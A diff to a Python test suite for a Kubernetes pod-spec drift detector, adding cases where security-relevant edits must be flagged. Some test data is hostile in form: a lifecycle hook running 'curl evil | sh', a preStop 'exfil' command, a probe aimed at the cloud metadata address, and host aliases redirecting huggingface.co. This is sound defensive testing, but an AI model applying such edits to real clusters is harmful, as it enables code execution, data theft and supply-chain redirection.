@@ -85,6 +85,11 @@ def defaulted(pod):
     pod.setdefault("securityContext", {})
     for c in pod["containers"]:
         c.update(terminationMessagePath="/dev/termination-log", imagePullPolicy="IfNotPresent")
+        for probe in ("startupProbe", "readinessProbe", "livenessProbe"):
+            c[probe]["httpGet"]["scheme"] = "HTTP"
+            c[probe].update(timeoutSeconds=1, successThreshold=1)
+        for port in c["ports"]:
+            port.pop("protocol", None)  # absent here, TCP by default: the same
     return pod
 
 
@@ -110,6 +115,21 @@ def test_defaults_are_not_drift(two_pool_example):
      "containers[vllm].env"),
     (lambda p: p.update(serviceAccountName="admin"), "spec.template.spec.serviceAccountName"),
     (lambda p: p.update(initContainers=[{"name": "init", "image": "busybox"}]), "spec.template.spec.initContainers"),
+    (lambda p: p["containers"][0]["ports"][0].update(hostPort=8000), "containers[vllm].ports"),
+    (lambda p: p["containers"][0]["ports"].append({"containerPort": 22, "hostPort": 2222}), "containers[vllm].ports"),
+    (lambda p: p["containers"][0].update(lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}),
+     "containers[vllm].lifecycle"),
+    (lambda p: p["containers"][0].update(lifecycle={"preStop": {"exec": {"command": ["sh", "-c", "exfil"]}}}),
+     "containers[vllm].lifecycle"),
+    (lambda p: p["containers"][0].update(livenessProbe={"exec": {"command": ["sh", "-c", "x"]}, "periodSeconds": 10}),
+     "containers[vllm].livenessProbe"),
+    (lambda p: p["containers"][0]["readinessProbe"]["httpGet"].update(host="169.254.169.254"),
+     "containers[vllm].readinessProbe"),
+    (lambda p: p["containers"][0]["startupProbe"]["httpGet"].update(path="/other"), "containers[vllm].startupProbe"),
+    (lambda p: p.update(hostAliases=[{"ip": "10.0.0.66", "hostnames": ["huggingface.co"]}]),
+     "spec.template.spec.hostAliases"),
+    (lambda p: p.update(dnsPolicy="Default"), "spec.template.spec.dnsPolicy"),
+    (lambda p: p.update(dnsConfig={"nameservers": ["10.0.0.66"]}), "spec.template.spec.dnsConfig"),
 ])
 def test_security_relevant_edits_are_drift(two_pool_example, edit, field):
     pod = rendered_pod(two_pool_example)
@@ -117,6 +137,16 @@ def test_security_relevant_edits_are_drift(two_pool_example, edit, field):
     edit(live)
     found = drift.pod_spec_drift(pod, live)
     assert len(found) == 1 and found[0].endswith(field), found
+
+
+def test_probe_timings_and_a_rendered_dns_policy_are_not_drift(two_pool_example):
+    """Deliberately left: probe timings; and an explicit dnsPolicy equal to what the apiserver defaults."""
+    pod = rendered_pod(two_pool_example)
+    live = defaulted(pod)
+    live["containers"][0]["livenessProbe"].update(periodSeconds=30, failureThreshold=10)
+    assert drift.pod_spec_drift(pod, live) == []
+    live.pop("dnsPolicy")
+    assert drift.pod_spec_drift(pod, live) == []
 
 
 async def test_hand_edited_child_is_reverted_with_a_warning(two_pool_example):
